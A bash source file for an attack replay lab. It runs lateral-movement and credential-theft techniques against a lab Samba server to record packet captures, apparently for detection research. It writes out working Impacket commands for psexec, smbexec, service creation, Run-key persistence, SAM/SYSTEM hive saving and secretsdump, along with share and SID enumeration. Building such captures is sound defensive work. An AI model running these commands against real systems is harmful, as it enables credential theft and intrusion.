# Techniques of the attack replay lab, sourced by run-lab.sh. Each function
# technique_<name> runs the tools of one capture from the attacker namespace,
# and <name> with "_" turned into "-" is the capture's file name. A technique
# returns non-zero when a tool fails, and the lab keeps the capture anyway.
# shellcheck shell=bash

# Capture names in the order the lab runs them. encrypted-session-smb311 comes
# last because it restarts smbd with encryption required.
# shellcheck disable=SC2034 # read by run-lab.sh
LAB_TECHNIQUES=(
    copy-to-c-share-smb21
    copy-to-admin-share-smb21
    copy-to-c-share-smb311
    copy-to-admin-share-smb311
    share-enum-netrpc
    share-session-enum-impacket
    service-create-netrpc
    service-create-impacket
    psexec-impacket
    smbexec-impacket
    atexec-impacket
    at-job-impacket
    registry-write-impacket
    hive-save-impacket
    secretsdump-impacket
    sam-enum-impacket
    share-session-enum-tcp-impacket
    lsa-lookupsid-impacket
    logon-failure-smb311
    encrypted-session-smb311
)

# Each tool gets at most this many seconds, then SIGTERM (and SIGKILL 5 s later).
TOOL_TIMEOUT=60

# Runs an Impacket example script from the attacker namespace against the
# server, through the wrapper that accepts Samba's FSCTL_PIPE_WAIT status.
impacket() {
    local script=$1
    shift
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" "$PYTHON" "$LAB_DIR/impacket-example.py" \
        "$IMPACKET_EXAMPLES/$script" "$LAB_DOMAIN/$LAB_USER:$LAB_PASSWORD@$SERVER_ADDR" "$@"
}

# Runs smbclient against //server/share with protocol max_protocol and extra
# options, executing the ';'-separated commands.
smbclient_run() {
    local share=$1 max_protocol=$2 commands=$3
    shift 3
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" smbclient -s "$WORK_DIR/client.conf" \
        "//$SERVER_ADDR/$share" -U "$LAB_DOMAIN\\$LAB_USER%$LAB_PASSWORD" \
        -m "$max_protocol" "$@" -c "$commands"
}

# Runs one "net rpc" command against the server.
net_rpc() {
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" net -s "$WORK_DIR/client.conf" rpc "$@" \
        -S "$SERVER_ADDR" -W "$LAB_DOMAIN" -U "$LAB_USER%$LAB_PASSWORD"
}

# Writes a small PE-looking payload (an "MZ" header and filler, 20 KB) that
# the copy techniques upload.
make_payload() {
    local path=$1
    {
        printf 'MZ'
        head -c 20478 /dev/zero | tr '\0' 'A'
    } >"$path"
}

# Uploads a payload into share\dir, lists it and copies it back.
copy_round_trip() {
    local share=$1 dir=$2 max_protocol=$3 name=$4
    shift 4
    local local_dir=$WORK_DIR/attacker
    mkdir -p "$local_dir"
    make_payload "$local_dir/$name"
    smbclient_run "$share" "$max_protocol" \
        "lcd $local_dir; cd $dir; put $name; ls $name; get $name $name.back" "$@"
    cmp -s "$local_dir/$name" "$local_dir/$name.back"
}

technique_copy_to_c_share_smb21() {
    copy_round_trip 'C$' 'Windows\Temp' SMB2_10 update.exe
}

technique_copy_to_admin_share_smb21() {
    copy_round_trip 'ADMIN$' 'Temp' SMB2_10 svchost.exe
}

technique_copy_to_c_share_smb311() {
    copy_round_trip 'C$' 'Users\Public' SMB3_11 tools.exe
}

technique_copy_to_admin_share_smb311() {
    copy_round_trip 'ADMIN$' 'Temp' SMB3_11 beacon.exe
}

technique_share_enum_netrpc() {
    net_rpc share list
    net_rpc info
}

technique_share_session_enum_impacket() {
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" "$PYTHON" "$LAB_DIR/srvsvc-enum.py" \
        "$LAB_DOMAIN/$LAB_USER:$LAB_PASSWORD@$SERVER_ADDR"
}

technique_service_create_netrpc() {
    net_rpc service create WaLabNet "WA Lab Net Service" 'C:\Windows\Temp\netsvc.exe'
    net_rpc service start WaLabNet
    net_rpc service delete WaLabNet
}

technique_service_create_impacket() {
    impacket services.py create -name WaLabSvc -display "WA Lab Service" \
        -path 'C:\Windows\Temp\labsvc.exe'
    impacket services.py start -name WaLabSvc
    impacket services.py delete -name WaLabSvc
}

# psexec.py copies its standard input to the RemCom_stdin pipe. At end of
# file it keeps writing to the pipe, so an idle pipe as input keeps the
# capture small.
technique_psexec_impacket() {
    sleep 6 | impacket psexec.py 'cmd.exe /c whoami'
}

technique_smbexec_impacket() {
    printf 'whoami\nexit\n' | impacket smbexec.py
}

technique_atexec_impacket() {
    impacket atexec.py whoami
}

technique_at_job_impacket() {
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" "$PYTHON" "$LAB_DIR/at-job.py" \
        "$LAB_DOMAIN/$LAB_USER:$LAB_PASSWORD@$SERVER_ADDR" \
        'cmd.exe /c whoami > C:\Windows\Temp\at-whoami.txt'
}

technique_registry_write_impacket() {
    impacket reg.py add -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' \
        -v WaLabUpdate -vt REG_SZ -vd 'C:\Windows\Temp\update.exe'
    impacket reg.py query -keyName 'HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run'
}

# Samba 4.17 turns C:\Windows\Temp into /Windows/Temp and rejects
# BaseRegSaveKey with ERROR_BAD_PATHNAME because no share's path contains it.
# The capture still contains each request with its key and file name.
technique_hive_save_impacket() {
    impacket reg.py save -keyName 'HKLM\SAM' -o 'C:\Windows\Temp'
    impacket reg.py save -keyName 'HKLM\SYSTEM' -o 'C:\Windows\Temp'
}

# secretsdump.py checks RemoteRegistry over svcctl, reads the boot key class
# names under HKLM\SYSTEM\CurrentControlSet\Control\Lsa, saves the SAM and
# SECURITY hives to System32 with BaseRegSaveKey and reads them back over
# ADMIN$. Samba 4.17 faults Impacket's QueryInfoKey and rejects the save, so
# for this technique only the lab points the winreg pipe at the responder.
technique_secretsdump_impacket() {
    local np=$WORK_DIR/ncalrpc/np status=0
    mv "$np/winreg" "$np/winreg.samba"
    mv "$np/winreg.lab" "$np/winreg"
    impacket secretsdump.py || status=$?
    mv "$np/winreg" "$np/winreg.lab"
    mv "$np/winreg.samba" "$np/winreg"
    return $status
}

technique_sam_enum_impacket() {
    impacket samrdump.py
}

# The same srvsvc calls over ncacn_ip_tcp: an endpoint mapper lookup on TCP
# 135, then a signed session on samba-dcerpcd's dynamic port.
technique_share_session_enum_tcp_impacket() {
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" "$PYTHON" "$LAB_DIR/srvsvc-enum.py" --tcp \
        "$LAB_DOMAIN/$LAB_USER:$LAB_PASSWORD@$SERVER_ADDR"
}

# lookupsid.py stops at LsarQueryInformationPolicy2, which a standalone Samba
# 4.17 rejects with nca_s_op_rng_error. rpcclient then makes the same lookups
# with the calls Samba serves.
technique_lsa_lookupsid_impacket() {
    impacket lookupsid.py 600 || true
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" rpcclient -s "$WORK_DIR/client.conf" \
        -U "$LAB_DOMAIN\\$LAB_USER%$LAB_PASSWORD" \
        -c 'lsaquery; lookupnames Administrator; lookupsids S-1-5-32-544 S-1-1-0' "$SERVER_ADDR"
}

# Two rejected logons: a wrong password for Administrator, then an unknown
# account. Both end in STATUS_LOGON_FAILURE, which smbclient reports as an
# error, so the technique's own status is ignored.
technique_logon_failure_smb311() {
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" smbclient -s "$WORK_DIR/client.conf" \
        "//$SERVER_ADDR/C\$" -U "$LAB_DOMAIN\\$LAB_USER%Wrong-Passw0rd" -m SMB3_11 -c 'ls' || true
    in_attacker timeout -k 5 "$TOOL_TIMEOUT" smbclient -s "$WORK_DIR/client.conf" \
        "//$SERVER_ADDR/C\$" -U "$LAB_DOMAIN\\backup%Lab-Passw0rd1" -m SMB3_11 -c 'ls' || true
}

technique_encrypted_session_smb311() {
    copy_round_trip 'C$' 'Windows\Temp' SMB3_11 sealed.exe --client-protection=encrypt
}
